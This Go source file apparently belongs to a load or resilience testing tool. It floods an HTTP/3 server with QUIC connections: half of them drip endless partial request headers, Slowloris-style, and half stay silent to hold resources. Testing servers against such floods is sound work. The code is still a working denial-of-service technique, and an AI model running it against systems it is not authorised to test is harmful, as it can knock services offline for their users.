package flood

import (
	"context"
	"io"
	"sync"

	"github.com/quic-go/quic-go"
	"github.com/quic-go/quic-go/http3"
)

const (
	// halfConnect begins a request of HTTP/3 whose headers have 4 KB (RFC 9114, 7.2.2).
	halfConnect = "\x01\x50\x00"

	// requestsEach is how many of them one connection has at once.
	requestsEach = 4
)

// connects begins the flood of QUIC connections that come about and ask for nothing: one half of them
// begins requests whose headers never end, as that of a CONNECT, the other half says nothing at all.
func (r *run) connects(ctx context.Context, all *sync.WaitGroup) error {
	base := r.base(0, "https")
	if base == "" {
		return nil
	}
	dial, err := r.dialQUIC(ctx, all, base)
	if err != nil {
		return err
	}
	for w, way := range []struct {
		how  string
		keep func(context.Context, *counter, *quic.Conn) error
	}{{"HTTP/3 CONNECTs without end", dripRequests}, {"silent QUIC", keepSilent}} {
		n := (r.Connects + w) / 2
		c := r.counter(Connects, way.how, n)
		r.crowd(ctx, all, n, func(ctx context.Context, i int) {
			c.begin()
			conn, err := dial(ctx, 2*i+w)
			if err != nil {
				if ctx.Err() == nil {
					c.refused(err)
				}
				return
			}
			end := c.open()
			err = way.keep(ctx, c, conn)
			_ = conn.CloseWithError(0, "")
			if ctx.Err() != nil {
				err = nil
			}
			end(err)
		})
	}
	return nil
}

// dialQUIC returns how to connect to the server at base.
func (r *run) dialQUIC(ctx context.Context, all *sync.WaitGroup, base string) (func(context.Context, int) (*quic.Conn, error), error) {
	to, from, err := r.ports(ctx, all, base, hearing)
	if err != nil {
		return nil, err
	}
	conf := r.options(base).TLS
	conf.ServerName = to.IP.String()
	conf.NextProtos = []string{http3.NextProtoH3}
	return func(ctx context.Context, i int) (*quic.Conn, error) {
		ctx, cancel := context.WithTimeout(ctx, joinPatience)
		defer cancel()
		return from(i).Dial(ctx, to, conf, &quic.Config{EnableDatagrams: true, KeepAlivePeriod: dripEvery})
	}, nil
}

// keepSilent waits until the server ends a connection, and returns how; nil when ctx ends before.
func keepSilent(ctx context.Context, _ *counter, conn *quic.Conn) error {
	select {
	case <-conn.Context().Done():
		return context.Cause(conn.Context())
	case <-ctx.Done():
		return nil
	}
}

// dripRequests is keepSilent with requests that come byte by byte.
func dripRequests(ctx context.Context, c *counter, conn *quic.Conn) error {
	dripStreams(ctx, c, requestsEach, conn.Context().Done(), func() (io.Writer, error) {
		str, err := conn.OpenStream()
		if err != nil {
			return nil, err
		}
		_, err = io.WriteString(str, halfConnect)
		return str, err
	})
	return keepSilent(ctx, c, conn)
}
